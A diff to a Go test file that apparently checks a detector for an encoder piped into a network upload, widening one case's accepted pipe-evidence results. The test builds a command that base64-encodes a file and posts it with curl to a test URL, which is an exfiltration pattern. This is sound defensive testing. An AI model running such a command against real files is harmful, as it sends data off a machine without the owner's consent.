@@ -123,10 +123,12 @@ func TestKernelPipeEvidence(t *testing.T) {
 		}, "encoder_then_network", "medium", func(v string) bool { return v == "none" }, "none"},
 		// A small file: base64 may be gone before its descriptors are
 		// read; a shared pipe is then not ruled out, and the alert stays
-		// critical.
+		// critical. On a loaded machine base64 may also be read before
+		// sh -c has closed its own copy of the pipe's read end, which
+		// reads as the shell capturing it: shown, critical too.
 		{"base64_file_piped_to_curl", func(m string) string {
 			return "base64 " + small + " | curl -s -o /dev/null --data-binary @- " + url(m)
-		}, "encoder_then_network", "critical", func(v string) bool { return shown(v) || v == "unshown" }, "shown or unshown"},
+		}, "encoder_then_network", "critical", func(v string) bool { return shown(v) || v == "unshown" || v == "captured" }, "shown, unshown or captured"},
 		// base64 blocks on the pipe while curl uploads to a slow receiver:
 		// both live, and the shared pipe is shown.
 		{"big_upload_shows_the_pipe", func(m string) string {
